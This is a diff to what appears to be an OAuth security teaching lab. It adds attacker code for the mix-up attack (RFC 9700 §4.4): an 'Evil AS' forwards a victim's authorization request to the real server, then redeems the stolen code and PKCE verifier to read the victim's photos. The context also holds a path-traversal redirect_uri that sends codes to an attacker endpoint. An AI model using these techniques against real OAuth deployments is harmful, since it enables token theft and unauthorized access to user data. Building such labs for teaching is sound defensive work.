@@ -76,3 +76,40 @@ export async function readPhotos(config: AttackerConfig, accessToken: string, wh
 export function craftedRedirectUri(config: AttackerConfig, run: string): string {
   return `${config.labRedirectUri}/../go?to=${encodeURIComponent(`${config.attacker.publicUrl}/catch/${run}`)}`;
 }
+
+/**
+ * Scenario 4, mix-up (RFC 9700 §4.4): Mallory runs an authorization server of her own ("Evil AS"). The printer's
+ * lab copy knows two servers; the victim picked hers. Her authorization endpoint passes the request on, state and
+ * code_challenge untouched, to the REAL auth server, as if the printer had sent it there. The real code then comes
+ * back to the printer, which, without checking `iss`, sends it to the server it thinks it talks to: hers.
+ */
+export function passOnToRealServer(config: AttackerConfig, query: Record<string, unknown>): string {
+  const url = new URL(`${config.auth.publicUrl}/authorize`);
+  for (const name of ['response_type', 'redirect_uri', 'state', 'code_challenge', 'code_challenge_method']) {
+    if (typeof query[name] === 'string') url.searchParams.set(name, query[name]);
+  }
+  url.searchParams.set('client_id', config.labPublicClientId); // the lab copy's id at the real server (public knowledge)
+  url.searchParams.set('scope', 'photos.read');
+  return url.href;
+}
+
+/** Evil AS's token endpoint: the real code (and the printer's own code_verifier!) arrive here; she redeems them. */
+export async function redeemAtRealServer(
+  config: AttackerConfig,
+  form: { code: string; redirect_uri: string; code_verifier?: string },
+): Promise<{ status: number; body: Record<string, unknown>; redemption: Redemption }> {
+  const request = new URLSearchParams({ grant_type: 'authorization_code', code: form.code, redirect_uri: form.redirect_uri, client_id: config.labPublicClientId });
+  if (form.code_verifier) request.set('code_verifier', form.code_verifier);
+  const response = await fetch(`${config.auth.internalUrl}/token`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: request.toString(),
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
+  if (response.status !== 200 || typeof body.access_token !== 'string') {
+    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
+    return { status: response.status, body, redemption: { success: false, summary: `The real auth server refused the code: ${error}.`, details: [] } };
+  }
+  return { status: 200, body, redemption: await readPhotos(config, body.access_token, 'Evil AS received the real code and redeemed it at the real auth server') };
+}
